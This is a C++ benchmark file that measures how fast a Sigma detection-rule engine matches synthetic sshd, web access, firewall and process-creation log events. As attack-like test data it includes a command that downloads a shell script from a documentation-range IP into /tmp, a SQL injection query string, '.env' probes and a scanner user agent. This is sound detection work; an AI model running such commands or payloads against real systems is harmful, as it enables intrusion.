// Sigma engine throughput: SigmaHQ's linux and web rules plus Hikeshi's built-ins against
// realistic synthetic events (sshd, cron and kernel syslog lines, combined access-log lines,
// netfilter lines, JSON-lines process events), as an attack-heavy mix (argument 0) and as
// ordinary traffic (argument 1). Reports events/s and bytes/s of the original lines; the
// engine is shared, each thread has its own matcher.
//
//   HIKESHI_SHARED=../shared build/release/bench/sigma_bench
#include <benchmark/benchmark.h>
#include <fmt/format.h>

#include <cstdlib>
#include <random>

#include "triage/sigma_builtin.h"
#include "triage/sigma_correlation.h"
#include "triage/sigma_engine.h"
#include "triage/sigma_loader.h"

namespace hikeshi::triage {
namespace {

const SigmaEngine& Engine() {
  static const std::unique_ptr<SigmaEngine> engine = [] {
    const char* shared = std::getenv("HIKESHI_SHARED");
    std::string base = shared ? shared : "../shared";
    SigmaRuleSet set;
    (void)LoadSigmaRuleFiles(base + "/data/sigma/rules/linux", set);
    (void)LoadSigmaRuleFiles(base + "/data/sigma/rules/web", set);
    LoadSigmaBuiltinRules(set);
    auto compiled = SigmaEngine::Compile(std::move(set));
    if (!compiled) {
      fmt::print(stderr, "{}\n", compiled.error().message);
      std::abort();
    }
    fmt::print(stderr, "{}", (*compiled)->report().Summary());
    return std::move(*compiled);
  }();
  return *engine;
}

class Generator {
 public:
  // `quiet`: ordinary traffic only (logins with keys, browsers, benign commands), the usual
  // case in a large log; otherwise a mix with brute force, scanners and suspicious commands.
  Generator(uint32_t seed, bool quiet) : random_(seed), quiet_(quiet) {}

  std::string Ip() {
    return fmt::format("{}.{}.{}.{}", Pick(223) + 1, Pick(256), Pick(256), Pick(254) + 1);
  }
  uint32_t Pick(uint32_t n) { return std::uniform_int_distribution<uint32_t>(0, n - 1)(random_); }
  template <size_t N>
  const char* From(const char* const (&choices)[N]) {
    return choices[Pick(N)];
  }

  // One event; its fields and line live in the event's owned storage.
  void Fill(Event& event, int64_t second) {
    static const char* const kUsers[] = {"root", "admin",  "alice", "bob",      "oracle",
                                         "test", "ubuntu", "git",   "postgres", "www-data"};
    static const char* const kPaths[] = {"/",
                                         "/index.php",
                                         "/wp-login.php",
                                         "/static/app.js",
                                         "/images/logo.png",
                                         "/api/v1/items",
                                         "/search",
                                         "/blog/2026/11/post.html",
                                         "/favicon.ico",
                                         "/.env",
                                         "/cgi-bin/test.cgi",
                                         "/admin/login"};
    static const char* const kQueries[] = {"-",       "-",
                                           "-",       "q=shoes&page=2",
                                           "id=42",   "s=1%27%20union%20select%201,2--",
                                           "lang=en", "redirect=https%3A%2F%2Fexample.org%2F"};
    static const char* const kQuietPaths[] = {"/",
                                              "/index.php",
                                              "/static/app.js",
                                              "/images/logo.png",
                                              "/api/v1/items",
                                              "/search",
                                              "/blog/2026/11/post.html",
                                              "/favicon.ico"};
    static const char* const kAgents[] = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "curl/8.4.0",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
        "python-requests/2.31.0"};
    static const char* const kCommands[] = {"/usr/bin/ls -la /var/www",
                                            "/bin/bash -c id",
                                            "/usr/bin/python3 /opt/app/run.py",
                                            "/usr/bin/wget http://198.51.100.7/x.sh -O /tmp/x.sh",
                                            "/usr/sbin/sshd -D",
                                            "/usr/bin/crontab -l",
                                            "/bin/sh -c uname -a",
                                            "/usr/bin/git pull --ff-only"};
    event.Clear();
    event.time = FromMicros((1767225600LL + second) * 1'000'000);
    event.source = "bench.log";
    auto field = [&](std::string_view name, std::string value) {
      event.fields.push_back({name, event.Own(std::move(value))});
    };
    uint32_t kind = Pick(100);
    std::string line;
    if (kind < 35) {  // sshd
      std::string ip = Ip(), user = From(kUsers);
      uint32_t port = 1024 + Pick(60000);
      uint32_t what = quiet_ ? 9 : Pick(10);
      std::string message =
          what < 6   ? fmt::format("Failed password for {} from {} port {} ssh2", user, ip, port)
          : what < 8 ? fmt::format("Invalid user {} from {} port {}", user, ip, port)
                     : fmt::format(
                           "Accepted publickey for {} from {} port {} ssh2: RSA "
                           "SHA256:3q2+7wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                           user, ip, port);
      line = fmt::format("Nov 24 10:{:02}:{:02} web01 sshd[{}]: {}", second / 60 % 60, second % 60,
                         1000 + Pick(30000), message);
      event.format = "syslog3164";
      event.program = "sshd";
      event.line = event.Own(line);
      event.message = event.line.substr(event.line.find(": ") + 2);
      field("src_ip", ip);
      field("src_port", std::to_string(port));
      field("user", user);
      field("outcome", what < 8 ? "failure" : "success");
    } else if (kind < 45) {  // other syslog
      static const char* const kMessages[] = {
          "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
          "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
          "Started Daily apt download activities.",
          "[UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=192.0.2.1 PROTO=TCP DPT=23"};
      static const char* const kPrograms[] = {"CRON", "CRON", "systemd", "kernel"};
      uint32_t which = Pick(4);
      event.format = "syslog3164";
      event.program = kPrograms[which];
      line = fmt::format("Nov 24 10:00:00 web01 {}[{}]: {}", kPrograms[which], Pick(30000),
                         kMessages[which]);
      event.line = event.Own(line);
      event.message = event.line.substr(event.line.find(": ") + 2);
    } else if (kind < 85) {  // access log
      std::string ip = Ip(), path = From(kPaths), query = From(kQueries), agent = From(kAgents);
      if (quiet_) {
        path = From(kQuietPaths);
        query = Pick(4) ? "-" : "q=shoes&page=2";
        agent = kAgents[Pick(2)];
      }
      const char* method = Pick(10) < 8 ? "GET" : "POST";
      const char* status = Pick(10) < 7 ? "200" : Pick(2) ? "404" : "302";
      line = fmt::format(
          "{} - - [24/Nov/2026:10:00:00 +0000] \"{} {}{}{} HTTP/1.1\" {} {} "
          "\"https://www.example.com/\" \"{}\"",
          ip, method, path, query == std::string("-") ? "" : "?",
          query == std::string("-") ? "" : query, status, Pick(50000), agent);
      event.format = "access";
      event.program = "";
      event.line = event.message = event.Own(line);
      field("c-ip", ip);
      field("cs-method", method);
      field("cs-uri-stem", path);
      field("cs-uri-query", query);
      field("sc-status", status);
      field("sc-bytes", std::to_string(Pick(50000)));
      field("cs-referer", "https://www.example.com/");
      field("cs-user-agent", agent);
    } else if (kind < 95) {  // netfilter
      std::string src = Ip(), dst = Ip();
      uint32_t dport = Pick(1024), sport = 1024 + Pick(60000);
      line = fmt::format(
          "Nov 24 10:00:00 fw kernel: [12345.678] DROP IN=eth0 OUT= MAC=00:16:3e:aa:bb:cc SRC={} "
          "DST={} LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=4242 DF PROTO=TCP SPT={} DPT={} WINDOW=29200 "
          "RES=0x00 SYN URGP=0",
          src, dst, sport, dport);
      event.format = "netfilter";
      event.program = "kernel";
      event.line = event.Own(line);
      event.message = event.line.substr(event.line.find(": ") + 2);
      field("src_ip", src);
      field("dst_ip", dst);
      field("src_port", std::to_string(sport));
      field("dst_port", std::to_string(dport));
      field("protocol", "TCP");
    } else {  // JSON lines process creation (e.g. Sysmon for Linux exported as JSON)
      std::string command = quiet_ ? kCommands[2 + 5 * Pick(2)] : From(kCommands);
      std::string image = command.substr(0, command.find(' '));
      line = fmt::format(
          "{{\"EventID\":1,\"Image\":\"{}\",\"CommandLine\":\"{}\",\"ParentImage\":\"/bin/bash\","
          "\"User\":\"root\",\"CurrentDirectory\":\"/root\"}}",
          image, command);
      event.format = "jsonl";
      event.program = "";
      event.line = event.message = event.Own(line);
      field("EventID", "1");
      field("Image", image);
      field("CommandLine", command);
      field("ParentImage", "/bin/bash");
      field("User", "root");
      field("CurrentDirectory", "/root");
    }
  }

 private:
  std::mt19937 random_;
  bool quiet_;
};

constexpr size_t kEvents = 50'000;

std::vector<Event> MakeEvents(bool quiet) {
  std::vector<Event> out(kEvents);
  Generator generator(42, quiet);
  for (size_t i = 0; i < kEvents; ++i) generator.Fill(out[i], static_cast<int64_t>(i / 50));
  return out;
}

// state.range(0): 0 the attack-heavy mix, 1 ordinary traffic.
const std::vector<Event>& Events(int64_t quiet) {
  static const std::vector<Event> noisy = MakeEvents(false);
  static const std::vector<Event> ordinary = MakeEvents(true);
  return quiet ? ordinary : noisy;
}

void BM_Match(benchmark::State& state) {
  const SigmaEngine& engine = Engine();
  const auto& events = Events(state.range(0));
  SigmaMatcher matcher(engine);
  size_t bytes = 0, matched = 0, i = 0;
  for (auto _ : state) {
    const Event& event = events[i++ % events.size()];
    matched += matcher.Match(event).size();
    bytes += event.line.size() + 1;
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()));
  state.SetBytesProcessed(static_cast<int64_t>(bytes));
  state.counters["matches_per_event"] =
      static_cast<double>(matched) / static_cast<double>(state.iterations());
}
BENCHMARK(BM_Match)->Arg(0)->Arg(1)->Threads(1)->Threads(2)->UseRealTime();

void BM_MatchAndCorrelate(benchmark::State& state) {
  const SigmaEngine& engine = Engine();
  const auto& events = Events(state.range(0));
  SigmaMatcher matcher(engine);
  SigmaCorrelator correlator(engine);
  std::vector<Finding> findings;
  size_t bytes = 0, produced = 0, i = 0;
  for (auto _ : state) {
    const Event& event = events[i++ % events.size()];
    findings.clear();
    correlator.Observe(event, matcher.Match(event), matcher, findings);
    produced += findings.size();
    bytes += event.line.size() + 1;
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()));
  state.SetBytesProcessed(static_cast<int64_t>(bytes));
  state.counters["findings_per_event"] =
      static_cast<double>(produced) / static_cast<double>(state.iterations());
}
BENCHMARK(BM_MatchAndCorrelate)->Arg(0)->Arg(1)->UseRealTime();

void BM_Compile(benchmark::State& state) {
  const char* shared = std::getenv("HIKESHI_SHARED");
  std::string base = shared ? shared : "../shared";
  for (auto _ : state) {
    SigmaRuleSet set;
    (void)LoadSigmaRuleFiles(base + "/data/sigma/rules/linux", set);
    (void)LoadSigmaRuleFiles(base + "/data/sigma/rules/web", set);
    auto engine = SigmaEngine::Compile(std::move(set));
    benchmark::DoNotOptimize(engine);
  }
}
BENCHMARK(BM_Compile)->Unit(benchmark::kMillisecond)->Iterations(3);

}  // namespace
}  // namespace hikeshi::triage

BENCHMARK_MAIN();
